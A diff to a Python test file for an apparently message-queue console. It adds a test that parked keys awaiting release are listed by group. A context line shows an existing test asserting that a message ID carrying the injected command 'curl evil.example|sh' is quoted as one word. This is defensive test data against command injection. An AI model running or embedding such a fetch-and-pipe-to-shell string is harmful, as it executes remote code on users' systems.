@@ -14,7 +14,7 @@ from orderlymq_console.collector import Reading
 from orderlymq_console.models import AuditPage, Figure
 from orderlymq_console.pages.blocked import Parts
 from orderlymq_console.pages.bodies import SHOWN_MAX, show
-from orderlymq_console.pages.findings import of_watch
+from orderlymq_console.pages.findings import of_held, of_watch
 from orderlymq_console.pages.groups import exact_lag
 from orderlymq_console.pages.pagination import PAGE_SIZE, cut, search
 from orderlymq_console.parameters import BadParameter, Parameters
@@ -146,6 +146,25 @@ def test_a_command_to_copy_holds_an_id_as_one_word() -> None:
     (trouble,) = of_watch(WatchReport.model_validate(watch))
 
     assert trouble.todo == "orderlymq message show 'ID;curl evil.example|sh' --topic orders"
+
+
+def test_keys_that_wait_for_a_release_are_named_by_their_group() -> None:
+    """Law: what the headline counts as waiting for a release is listed, with the group and the next step."""
+    lanes = [{"group": "billing", "state": each, "lanes": 2} for each in ("inHand", "held")]
+    keys = [
+        {"group": "billing", "keys": 3},
+        {"group": "audit", "keys": 1},
+        {"group": "b", "keys": 0},
+    ]
+    watch = {"examinedAt": 1, "blockedKnown": True, "parkedKeys": keys, "lanes": lanes}
+
+    found = [*of_held(WatchReport.model_validate(watch))]
+
+    assert [each.text for each in found] == [
+        "1 key waits for a release in group audit.",
+        "5 keys wait for a release in group billing.",
+    ]
+    assert all("release" in each.todo and each.link == "/blocked" for each in found)
 
 
 def test_a_rate_takes_two_looks_and_begins_again_with_a_new_leader() -> None:
